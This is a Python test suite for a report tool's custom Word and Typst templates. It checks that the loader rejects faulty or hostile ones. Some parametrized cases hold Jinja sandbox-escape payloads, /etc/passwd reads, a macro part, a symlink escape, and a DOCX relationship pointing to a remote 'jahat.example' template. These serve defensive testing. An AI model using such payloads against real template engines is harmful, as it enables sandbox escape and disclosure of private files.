"""The office's own templates: they take the place of the shipped ones, and every mistake of them is told with advice."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from docx import Document

from monitor.errors import ConfigError
from monitor.reports import papers, templates
from monitor.reports.papers import Format
from monitor.reports.sample import sample
from monitor.reports.templates import SHIPPED, Templates
from tests.reports.office import NEEDS_POPPLER, Desk, open_desk, pdf_text, word_text
from tests.reports.test_papers import picture, shelve


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    made = open_desk(tmp_path, templates="templat")
    (made.kept.folder / "templat").mkdir()
    yield made
    made.kept.store.close()


def own(desk: Desk) -> Path:
    return desk.kept.folder / "templat"


def a_word(*paragraphs: str) -> bytes:
    sheet = Document()
    for text in paragraphs:
        sheet.add_paragraph(text)
    out = io.BytesIO()
    sheet.save(out)
    return out.getvalue()


def repacked(change: Callable[[str, bytes], bytes], *more: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(SHIPPED / "surat-pengantar.docx") as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, body in more:
            new.writestr(name, body)
    return out.getvalue()


def told(desk: Desk) -> str:
    with pytest.raises(ConfigError) as refused:
        desk.bureau.templates()
    return str(refused.value)


def test_a_letter_of_the_office_takes_the_place_of_the_shipped_one(desk: Desk) -> None:
    (own(desk) / "surat-pengantar.docx").write_bytes(
        a_word("KOP {{ kantor }}", "{% for r in bukti %}{{ r.sidik }}{% endfor %}")
    )
    (own(desk) / "~$rat-pengantar.docx").write_bytes(b"kunci Word")
    made = desk.papers(0, Format.WORD)
    said = word_text(made["surat-pengantar.docx"])
    assert "KOP Bawaslu Kabupaten <Contoh> & Rekaan" in said
    assert desk.kept.store.flags.get(desk.case).stored.evidence_sha256 in said
    assert "FORMULIR MODEL A" in word_text(made["formulir-a-pilkada.docx"])


@NEEDS_POPPLER
def test_an_own_typst_letter_may_use_what_the_shipped_base_gives(desk: Desk, tmp_path: Path) -> None:
    text = '#import "dasar.typ": *\n#show: kertas.with(judul: "Surat")\nSURAT KAMI #d.nomor_surat;\n'
    (own(desk) / "surat-pengantar.typ").write_text(text, "utf-8")
    desk.write(letter_number="9/KAMI")
    assert "SURAT KAMI 9/KAMI" in pdf_text(desk.papers(0, Format.PDF)["surat-pengantar.pdf"], tmp_path)


def test_a_folder_that_is_not_there_is_told(tmp_path: Path) -> None:
    made = open_desk(tmp_path, templates="tidak-ada")
    assert "folder templat tidak ada" in told(made)
    made.kept.store.close()


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("surat-pengantr.docx", a_word("x"), "maksudnya `surat-pengantar.docx`?"),
        ("catatan.txt", b"x", "bukan nama templat yang dikenal"),
        ("surat-pengantar.docx", b"bukan zip", "bukan dokumen Word"),
        ("surat-pengantar.docx", a_word("{{ kantor"), "isian tidak terbaca"),
        ("surat-pengantar.docx", a_word("{% for x in bukti %}"), "isian tidak terbaca"),
        ("surat-pengantar.docx", b"x" * 5_000_001, "terlalu besar"),
        ("surat-pengantar.docx", repacked(lambda _name, body: body, ("word/vbaProject.bin", b"x")), "memuat makro"),
        (
            "surat-pengantar.docx",
            repacked(
                lambda name, body: body.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                    b'attachedTemplate" Target="http://jahat.example/t.dotm" TargetMode="External"/></Relationships>',
                )
                if name == "word/_rels/document.xml.rels"
                else body
            ),
            "memuat sesuatu dari luar berkas",
        ),
        ("surat-pengantar.docx", repacked(lambda _name, body: body, ("word/media/besar.bin", b"\0" * 41_000_000)), "terlalu banyak"),
        ("surat-pengantar.typ", b"\xff\xfe", "bukan UTF-8"),
        ("surat-pengantar.typ", b'\n#import "@preview/cetz:0.3.0"', "surat-pengantar.typ:2:2: `import` tidak boleh"),
        ("surat-pengantar.typ", b'#let x = "@preview/a:0.1.0"\n#import x', "`import` tidak boleh"),
        ("surat-pengantar.typ", b'#eval("1")', "`eval` tidak boleh"),
        ("surat-pengantar.typ", b'#import "dasar.typ": *; #include "/etc/passwd"', "`include` tidak boleh"),
        ("dasar.typ", b'#import "dasar.typ": *', "`import` tidak boleh"),
    ],
)  # fmt: skip
def test_every_mistake_of_an_own_template_is_told(desk: Desk, name: str, content: bytes, said: str) -> None:
    (own(desk) / name).write_bytes(content)
    assert said in told(desk)


def test_a_template_may_not_point_out_of_its_folder(desk: Desk) -> None:
    secret = desk.kept.folder / "rahasia.docx"
    secret.write_bytes(a_word("rahasia"))
    (own(desk) / "surat-pengantar.docx").symlink_to(secret)
    assert "menunjuk ke luar folder templat" in told(desk)


@pytest.mark.parametrize(
    "attack",
    [
        "{{ kantor.__class__.__mro__ }}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ ''|attr('__class__') }}",
        "{% include '/etc/passwd' %}",
        "{% import 'x' as y %}",
        "{% for i in range(999999999) %}x{% endfor %}",
        "{{ bukti.append(1) }}",
        "{{ tidak_ada }}",
        "{{ bukti[0].tidak_ada }}",
        "{{ 1 // 0 }}",
        "{{ bukti + 1 }}",
        "{{ kantor() }}",
    ],
)
def test_a_word_template_cannot_reach_out_of_its_case(desk: Desk, attack: str) -> None:
    (own(desk) / "surat-pengantar.docx").write_bytes(a_word(attack))
    with pytest.raises(ConfigError, match=r"surat-pengantar\.docx: (templat tidak dapat diisi|isian tidak terbaca)"):
        desk.papers(0, Format.WORD)


@pytest.mark.parametrize(
    "attack",
    [
        "{{ gambar[0].gambar.tpl.save('AWAY') }}",
        "{% for g in gambar %}{{ g.gambar.tpl.docx }}{% endfor %}",
        "{{ gambar[0].gambar.image_descriptor.read() }}",
        "{{ gambar[0]['gambar']['tpl'] }}",
        "{{ (gambar|map(attribute='gambar')|first).insert_image() }}",
        "{{ bukti[0].pop('sidik') }}",
        "{{ '{0.__class__}'.format(gambar[0].gambar) }}",
        "{{ range(3) }}",
        "{{ lipsum() }}",
        "{{ dict(a=1) }}",
    ],
)
def test_a_picture_leads_no_template_out_of_the_document(desk: Desk, tmp_path: Path, attack: str) -> None:
    shelve(desk, picture((300, 300)))
    away = tmp_path / "keluar.docx"
    (own(desk) / "surat-pengantar.docx").write_bytes(a_word(attack.replace("AWAY", str(away))))
    with pytest.raises(ConfigError, match="templat tidak dapat diisi"):
        desk.papers(0, Format.WORD)
    assert not away.exists()


def test_a_filter_sees_no_more_than_a_dot(desk: Desk) -> None:
    shelve(desk, picture((300, 300)))
    attack = "{{ gambar|map(attribute='gambar.tpl')|list }} {{ gambar|map(attribute='sidik')|first }}"
    (own(desk) / "surat-pengantar.docx").write_bytes(a_word(attack))
    said = word_text(desk.papers(0, Format.WORD)["surat-pengantar.docx"])
    assert "[Undefined] " in said
    assert "docxtpl" not in said


def test_what_a_template_needs_still_works(desk: Desk) -> None:
    shelve(desk, picture((300, 300)))
    text = (
        "{{ pelaku_nama|upper }} {{ kantor.upper() }} {% for r in bukti %}{{ loop.index }}:{{ r.sidik[:8] }}"
        "{% if not loop.last %}, {% endif %}{% endfor %} {% set x = tanda %}{{ x }} "
        "{% macro m(a) %}[{{ a }}]{% endmacro %}{{ m(tanda) }} {{ gambar[0].gambar }}"
    )
    (own(desk) / "surat-pengantar.docx").write_bytes(a_word(text))
    said = word_text(desk.papers(0, Format.WORD)["surat-pengantar.docx"])
    assert "DR. UJI REKAAN 1, M.SI. BAWASLU KABUPATEN" in said
    assert f"[{desk.case}]" in said


@pytest.mark.parametrize("attack", ["#read(\"/etc/passwd\")", "#read(\"../rahasia.txt\")", "#image(\"/etc/passwd\")", "#d.tidak_ada"])  # fmt: skip # noqa: Q003
def test_a_typst_template_reads_nothing_outside(desk: Desk, attack: str) -> None:
    (desk.kept.folder / "rahasia.txt").write_text("rahasia")
    (own(desk) / "surat-pengantar.typ").write_text('#import "dasar.typ": *\n' + attack, "utf-8")
    with pytest.raises(ConfigError, match="templat tidak dapat diisi"):
        desk.papers(0, Format.PDF)


@pytest.mark.parametrize("variant", ["pemilu", "pilkada"])
def test_the_shipped_templates_pass_their_trial_with_an_invented_case(desk: Desk, variant: str) -> None:
    source = sample(desk.bureau.config, desk.bureau.law(), desk.bureau.targets(), variant)
    filled = papers.fill(source, desk.kept.archive)
    assert papers.trial(filled, templates.shipped(), source.made_at, variant) == []


def test_a_trial_names_the_place_that_was_meant(desk: Desk) -> None:
    source = sample(desk.bureau.config, desk.bureau.law(), desk.bureau.targets(), "pilkada")
    files = {**templates.shipped().files, "surat-pengantar.docx": a_word("{{ kator }} {{ zzz }}")}
    filled = papers.fill(source, desk.kept.archive)
    said = papers.trial(filled, Templates(files, frozenset({"surat-pengantar.docx"})), source.made_at, "pilkada")
    assert [str(one) for one in said] == [
        "surat-pengantar.docx: isian `kator` tidak dikenal — maksudnya `kantor`?",
        "surat-pengantar.docx: isian `zzz` tidak dikenal — nama isian ada di docs/operasi.md",
    ]
